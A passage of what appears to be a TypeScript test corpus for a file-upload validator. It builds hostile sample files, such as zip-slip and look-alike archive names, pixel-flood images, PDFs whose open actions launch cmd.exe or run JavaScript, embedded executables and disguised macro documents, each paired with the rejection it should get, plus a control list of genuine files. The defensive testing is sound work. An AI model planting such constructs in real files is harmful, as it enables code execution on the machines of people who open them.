        { name: 'Doc_0/Res/caf\u00e9.png', data: 'x', flags: 0x800 },
        { name: 'Doc_0/Res/cafe\u0301.png', data: 'y', flags: 0x800 },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-names-one-file-on-windows',
    category: 'malformed archive',
    declared: 'ofd',
    // NTFS upper-cases the dotless ı to I: Doc_0/PublıcRes.xml is the document's Doc_0/PublicRes.xml.
    bytes: async () =>
      rawZip([...rawEntries(ofdEntries()), { name: 'Doc_0/Publ\u0131cRes.xml', data: '<x/>', flags: 0x800 }]),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-unflagged-name-utf8-reading-another-entry',
    category: 'malformed archive',
    declared: 'ofd',
    // JSZip (ofd.js) and Commons Compress (ofdrw) read an unflagged name as UTF-8.
    bytes: async () =>
      rawZip([
        ...rawEntries(ofdEntries()),
        { name: 'Doc_0/Res/图片.png', data: 'x', flags: 0x800 },
        { name: Buffer.from('Doc_0/Res/图片.png'), data: 'y' },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-gbk-name-split-at-its-backslash-byte',
    category: 'zip slip',
    declared: 'ofd',
    // 乗 (81 5C) before a slash: an empty folder name to readers that take 5C for a backslash.
    bytes: async () =>
      rawZip([
        ...rawEntries(ofdEntries()),
        { name: Buffer.from('Doc_0/Res/\x81\x5c/image_1.png', 'latin1'), data: 'x' },
      ]),
    expect: 'ZIP_UNSAFE_PATH',
  },

  // ── pixel floods ──────────────────────────────────────────────────────────────────────
  {
    id: 'png-flood-100k',
    category: 'pixel flood',
    declared: 'png',
    bytes: async () => pixelFloodPng(),
    expect: 'IMAGE_TOO_MANY_PIXELS',
  },
  {
    id: 'png-flood-max',
    category: 'pixel flood',
    declared: 'png',
    bytes: async () => pixelFloodPng(0x7fffffff, 0x7fffffff),
    expect: 'IMAGE_TOO_MANY_PIXELS',
  },
  {
    id: 'png-flood-thin',
    category: 'pixel flood',
    declared: 'png',
    bytes: async () => pixelFloodPng(1, 200_000_000),
    expect: 'IMAGE_TOO_MANY_PIXELS',
  },
  {
    id: 'jpeg-flood',
    category: 'pixel flood',
    declared: 'jpeg',
    bytes: async () => jpegOfSize(65_535, 65_535),
    expect: 'IMAGE_TOO_MANY_PIXELS',
  },

  // ── PDFs: encrypted, scripted, carrying attachments ───────────────────────────────────────
  {
    id: 'pdf-encrypted',
    category: 'encrypted PDF',
    declared: 'pdf',
    bytes: async () => encryptedPdf(),
    expect: 'PDF_ENCRYPTED',
  },
  {
    id: 'pdf-encrypted-xref-stream',
    category: 'encrypted PDF',
    declared: 'pdf',
    bytes: async () => encryptedPdfXrefStream(64 * 1024, { xrefAtEnd: true }),
    expect: 'PDF_ENCRYPTED',
  },
  {
    id: 'pdf-javascript-object-streams',
    category: 'PDF script',
    declared: 'pdf',
    bytes: () => pdfWithScript(),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-javascript-plain',
    category: 'PDF script',
    declared: 'pdf',
    bytes: () => pdfWithScript({ objectStreams: false }),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-openaction-js',
    category: 'PDF script',
    declared: 'pdf',
    bytes: async () => pdfWithCatalog('/OpenAction << /S /JavaScript /JS (app.launchURL("http://x/")) >>'),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-openaction-js-escaped',
    category: 'PDF script',
    declared: 'pdf',
    bytes: async () => pdfWithCatalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-launch',
    category: 'PDF script',
    declared: 'pdf',
    bytes: async () => pdfWithCatalog('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-javascript-action-object',
    category: 'PDF script',
    declared: 'pdf',
    bytes: async () =>
      pdfWithCatalog('', [
        { dict: '<< /Type /Action /S /JavaScript /JS 7 0 R >>' },
        { dict: '', stream: ascii('this.print()') },
      ]),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-richmedia',
    category: 'PDF script',
    declared: 'pdf',
    bytes: async () => pdfWithCatalog('', [{ dict: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>' }]),
    expect: 'PDF_SCRIPT',
  },
  {
    id: 'pdf-attachment',
    category: 'PDF attachment',
    declared: 'pdf',
    bytes: () => pdfWithAttachment(windowsExecutable()),
    expect: 'PDF_ATTACHMENT',
  },
  {
    id: 'pdf-attachment-annotation',
    category: 'PDF attachment',
    declared: 'pdf',
    bytes: async () =>
      pdfWithCatalog('', [
        { dict: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>' },
        { dict: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>' },
        { dict: '/Type /EmbeddedFile', stream: windowsExecutable(512) },
      ]),
    expect: 'PDF_ATTACHMENT',
  },
  {
    id: 'pdf-attachment-names',
    category: 'PDF attachment',
    declared: 'pdf',
    bytes: async () =>
      pdfWithCatalog('/Names << /EmbeddedFiles << /Names [(a.docm) 6 0 R] >> >>', [
        { dict: '<< /Type /Filespec /F (a.docm) /UF (a.docm) /EF << /F 7 0 R >> >>' },
        { dict: '/Type /EmbeddedFile', stream: await docx({ vbaProject: true }) },
      ]),
    expect: 'PDF_ATTACHMENT',
  },

  // ── macro-enabled Office files disguised as .docx / .xlsx ──────────────────────────────
  {
    id: 'docm-vba-part',
    category: 'macros',
    declared: 'docx',
    bytes: () => docx({ vbaProject: true }),
    expect: 'MACROS',
  },
  {
    id: 'xlsm-vba-part',
    category: 'macros',
    declared: 'xlsx',
    bytes: () => xlsx({ vbaProject: true }),
    expect: 'MACROS',
  },
  {
    id: 'docm-content-type',
    category: 'macros',
    declared: 'docx',
    bytes: () => docx({ macroContentType: true }),
    expect: 'MACROS',
  },
  {
    id: 'xlsm-content-type',
    category: 'macros',
    declared: 'xlsx',
    bytes: () => xlsx({ macroContentType: true }),
    expect: 'MACROS',
  },
  {
    id: 'docm-streamed',
    category: 'macros',
    declared: 'docx',
    bytes: () => docx({ vbaProject: true, macroContentType: true, stream: true }),
    expect: 'MACROS',
  },
  {
    id: 'docm-renamed-vba-part',
    category: 'macros',
    declared: 'docx',
    bytes: async () =>
      patchZip(await docx({ vbaProject: true }), 'word/vbaProject.bin', { rename: 'word/mediaData1.bin' }),
    expect: 'MACROS',
  },
  {
    id: 'xlsm-excel4-macrosheet',
    category: 'macros',
    declared: 'xlsx',
    bytes: () => buildZip(xlsxEntries({ extra: [{ name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' }] })),
    expect: 'MACROS',
  },
  {
    id: 'xlsm-intl-macrosheet-by-name',
    category: 'macros',
    declared: 'xlsx',
    bytes: () =>
      buildZip(xlsxEntries({ extra: [{ name: 'xl/intlMacrosheets/sheet1.xml', data: '<xm:macrosheet/>' }] })),
    expect: 'MACROS',
  },

  // ── truncated, empty, and not what was declared ───────────────────────────────────────────
  {
    id: 'pdf-truncated',
    category: 'truncated',
    declared: 'pdf',
    bytes: async () => truncatedPdf(await pdfLibPdf()),
    expect: 'PDF_TRUNCATED',
  },
  {
    id: 'pdf-header-only',
    category: 'truncated',
    declared: 'pdf',
    bytes: async () => ascii('%PDF-1.7\n'),
    expect: 'PDF_TRUNCATED',
  },
  {
    id: 'docx-truncated',
    category: 'truncated',
    declared: 'docx',
    bytes: async () => (await docx()).subarray(0, 1500),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'xlsx-truncated',
    category: 'truncated',
    declared: 'xlsx',
    bytes: async () => {
      const f = await xlsx();
      return f.subarray(0, f.length - 30);
    },
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'png-truncated',
    category: 'truncated',
    declared: 'png',
    bytes: async () => png().subarray(0, 100),
    expect: 'IMAGE_MALFORMED',
  },
  {
    id: 'jpeg-truncated',
    category: 'truncated',
    declared: 'jpeg',
    bytes: async () => jpeg().subarray(0, 120),
    expect: 'IMAGE_MALFORMED',
  },
  {
    id: 'empty',
    category: 'empty',
    declared: 'pdf',
    bytes: async () => Buffer.alloc(0),
    declaredSize: () => 4096,
    expect: 'EMPTY',
  },
  {
    id: 'empty-png',
    category: 'empty',
    declared: 'png',
    bytes: async () => Buffer.alloc(0),
    declaredSize: () => 1,
    expect: 'EMPTY',
  },
  {
    id: 'size-larger-than-declared',
    category: 'size mismatch',
    declared: 'pdf',
    bytes: () => pdfLibPdf(),
    declaredSize: (n) => n - 1,
    expect: 'SIZE_MISMATCH',
  },
  {
    id: 'size-smaller-than-declared',
    category: 'size mismatch',
    declared: 'pdf',
    bytes: () => pdfLibPdf(),
    declaredSize: (n) => n + 1,
    expect: 'SIZE_MISMATCH',
  },
  {
    id: 'size-mismatch-png',
    category: 'size mismatch',
    declared: 'png',
    bytes: async () => png(),
    declaredSize: (n) => n * 2,
    expect: 'SIZE_MISMATCH',
  },
  {
    id: 'size-over-the-limit',
    category: 'size mismatch',
    declared: 'pdf',
    bytes: async () => Buffer.concat([ascii('%PDF-1.7\n'), randomBytes(2 * MiB)]),
    declaredSize: () => MiB,
    maxBytes: MiB,
    expect: 'TOO_LARGE',
  },
  {
    id: 'checksum-differs',
    category: 'size mismatch',
    declared: 'pdf',
    bytes: () => pdfLibPdf(),
    sha256: (bytes) =>
      createHash('sha256')
        .update(Buffer.concat([bytes, ascii(' ')]))
        .digest('hex'),
    expect: 'CHECKSUM_MISMATCH',
  },
  // Active content ("Trust II"): ./corpus-active.ts.
  ...ACTIVE_CORPUS,
];

/** Real files of each type: the same path must accept them (the corpus's control). */
export const GENUINE: readonly { id: string; declared: FileType; bytes: () => Promise<Buffer> }[] = [
  { id: 'pdf-lib', declared: 'pdf', bytes: () => pdfLibPdf() },
  { id: 'pdf-handmade', declared: 'pdf', bytes: async () => handmadePdf() },
  { id: 'pdf-xref-stream', declared: 'pdf', bytes: async () => handmadePdf({ xref: 'stream' }) },
  { id: 'docx', declared: 'docx', bytes: () => docx() },
  // Round 17: what a download or mail gateway appends after the end record.
  { id: 'docx-line-feed-after-end', declared: 'docx', bytes: async () => Buffer.concat([await docx(), ascii('\n')]) },
  { id: 'xlsx', declared: 'xlsx', bytes: () => xlsx() },
  { id: 'ofd', declared: 'ofd', bytes: () => buildZip(ofdEntries()) },
  {
    // Round 14's look-alike: a GBK name holding 乗 (81 5C), Chinese, accented and full-width names.
    id: 'ofd-gbk-chinese-and-full-width-names',
    declared: 'ofd',
    bytes: async () =>
      rawZip([
        ...rawEntries(ofdEntries()),
        { name: Buffer.from('Doc_0/Res/\x81\x5c.png', 'latin1'), data: 'x' },
        { name: 'Doc_0/Res/印章.png', data: 'x', flags: 0x800 },
        { name: 'Doc_0/Res/café.png', data: 'x', flags: 0x800 },
        { name: 'Doc_0/Res/１.png', data: 'x', flags: 0x800 },
        { name: 'Doc_0/Res/1.png', data: 'x', flags: 0x800 },
      ]),
  },
  { id: 'png', declared: 'png', bytes: async () => png() },
  { id: 'jpeg', declared: 'jpeg', bytes: async () => jpeg() },
  // Round 16: photos from phones, built by the specifications (test/fixtures/phone-photos.ts).
  { id: 'jpeg-ultra-hdr', declared: 'jpeg', bytes: async () => ultraHdr(jpeg(), jpeg({ width: 16, height: 8 })) },
  {
    id: 'jpeg-mpf-little-endian-preview',
    declared: 'jpeg',
    bytes: async () =>
      withMpf(jpeg({ width: 640, height: 480 }), [jpeg({ width: 160, height: 120 })], {
        littleEndian: true,
        attributes: [0x20030000, 0x00010001],
      }),
  },
  {
    id: 'jpeg-samsung-trailer',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([jpeg(), samsungTrailer(SAMSUNG_STILL_BLOCKS)]),
  },
  {
    id: 'jpeg-samsung-ultra-hdr',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([ultraHdr(jpeg(), jpeg()), samsungTrailer(SAMSUNG_STILL_BLOCKS)]),
  },
  ...ACTIVE_GENUINE,
];
